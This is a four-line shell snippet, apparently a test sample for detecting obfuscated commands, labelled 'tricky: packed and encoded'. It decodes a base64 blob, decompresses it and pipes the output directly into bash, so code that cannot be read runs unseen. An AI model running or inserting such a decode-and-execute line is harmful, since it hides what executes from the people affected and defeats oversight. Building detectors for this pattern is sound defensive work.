# tricky: packed and encoded
base64 -d <<'EOF' | gunzip | bash
H4sIAAAAAAAAA0vOSFTIKlHIzMlMVshLLQcA0yUkWg4AAAA=
EOF
